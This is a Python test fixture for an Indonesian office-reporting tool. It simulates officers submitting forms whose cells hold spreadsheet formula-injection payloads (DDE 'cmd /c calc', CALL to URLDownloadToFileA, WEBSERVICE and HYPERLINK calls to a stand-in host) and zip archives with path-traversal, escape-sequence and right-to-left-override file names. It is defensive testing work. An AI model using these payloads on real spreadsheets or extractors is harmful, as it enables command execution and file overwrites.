"""A small office whose officers send what a program runs: real formulas in every cell they may fill,
and files, beside forms and in zips, whose names are commands, links, paths and escape sequences."""

from __future__ import annotations

import zipfile
from pathlib import Path

from sopkinerja.istilah import Formulir
from sopkinerja.mandat.referensi import write_referensi
from sopkinerja.mulai import create_ruang
from tests.mutator.borang import Rumus
from tests.mutator.hidup import JAHAT, TANDA
from tests.mutator.kantor_jahat import Cerita, build_referensi

RUMUS = (
    f'HYPERLINK("http://contoh.invalid/{TANDA}","klik")', f'WEBSERVICE("http://contoh.invalid/{TANDA}")',
    f"cmd|'/c calc'!{TANDA}", f'DDE("cmd";"/c calc";"{TANDA}")', f"'[{TANDA}.xlsx]Rekap'!B2",
    f'IMPORTXML("http://contoh.invalid/{TANDA}","//a")', f'IMAGE("http://contoh.invalid/{TANDA}.png")',
    f'INDIRECT("{TANDA}!A1")', f'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"{TANDA}")',
)  # fmt: skip
BERANGKA = ("realisasi", "volume", "realisasi_tw", "kode", "tanggal")
NAMA_ZIP = (
    *JAHAT, f"..\\..\\{TANDA}", f"../../{TANDA}", f"/{TANDA}", f"C:\\{TANDA}", f"\x1b[31m{TANDA}",
    f"\u202efdp.{TANDA}", f"\n ✓ diterima {TANDA}",
)  # fmt: skip
HARI = ("--tanggal", "2026-04-02")


class KantorRumus(Cerita):
    """The office through TW I, its returns hostile by more than their texts."""

    def open(self) -> None:
        """January, up to the forms."""
        self.ruang.akar.mkdir(parents=True)
        write_referensi(self.ruang.berkas_referensi, build_referensi(self.tulis))
        create_ruang(self.ruang)
        self.jalankan("tetapkan", "--tanggal", "2026-01-05", kode=(0,))
        self.jalankan("terbitkan", "laporan", "-t", "1", "--tanggal", "2026-01-12")

    def kirim_rumus(self, jabatan: str, hasil: float | str) -> None:
        """A form with a real formula in every cell; those of figures show `hasil`."""
        isi = {
            tempat: Rumus(
                RUMUS[n % len(RUMUS)], hasil if tempat.split(".")[-1] in BERANGKA else "teks"
            )
            for n, (tempat, _) in enumerate(self._isi_laporan(jabatan))
        }
        self._kirim(Formulir.LAPORAN, jabatan, dict(isi))

    def kirim_zip(self, jabatan: str) -> None:
        """An honest form in a zip beside evidence whose names are hostile, one of them named in it."""
        isi = dict(self._isi_laporan(jabatan))
        isi["laporan.01.bukti_dukung"] = f"=1+1 {TANDA}0.pdf"
        lama = set(self.ruang.inbox.iterdir())
        self._kirim(Formulir.LAPORAN, jabatan, isi)
        (berkas,) = set(self.ruang.inbox.iterdir()) - lama
        with zipfile.ZipFile(self.ruang.inbox / f"=1+1 {TANDA}.zip", "w") as arsip:
            arsip.writestr(f"=cmd|'!A0 {TANDA}.xlsx", berkas.read_bytes())
            for n, nama in enumerate(NAMA_ZIP):
                arsip.writestr(f"{nama} {TANDA}{n}.pdf", b"%PDF-1.4\n" + str(n).encode())
        berkas.unlink()

    def taruh_berkas(self) -> None:
        """Files that are no forms, named as the file system lets one."""
        for n, nama in enumerate(NAMA_ZIP):
            aman = f"{nama} {TANDA}{n}.txt".replace("/", "_")
            (self.ruang.inbox / aman).write_bytes(b"bukan formulir " + str(n).encode())

    def berlanjut(self) -> None:
        """Intake, then everything that tells of it."""
        self.jalankan("terima", "--uji-coba", *HARI)
        self.jalankan("terima", *HARI)
        self.jalankan("status", "laporan", "-t", "1", "--tanggal", "2026-04-06", "--tanpa-kontak")
        self.jalankan("matriks", "-t", "1", "--tanggal", "2026-04-08")
        self.jalankan("lhe", "-t", "1", "--tanggal", "2026-04-08")
        self.jalankan("bundel", "-t", "1", "--tahun", "2026")
        self.jalankan("jejak", "BID-01.01", "-t", "1", "--tahun", "2026")


def find_asli(folder: Path) -> set[bytes]:
    """What the officers sent, byte for byte: a bundle holds it as it came."""
    return {p.read_bytes() for p in folder.rglob("*") if p.is_file()}
